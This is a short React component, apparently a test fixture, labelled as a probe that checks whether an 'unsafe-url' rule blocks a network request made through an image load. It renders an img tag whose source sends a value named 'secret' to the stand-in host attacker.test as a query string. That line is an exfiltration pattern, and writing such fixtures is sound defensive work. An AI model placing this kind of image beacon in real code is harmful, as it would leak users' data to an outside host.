// probe: network by a resource load; refused by: unsafe-url
export default function Probe({ v = "secret" }) {
  return <img alt="" src={"https://attacker.test/?q=" + v} />;
}
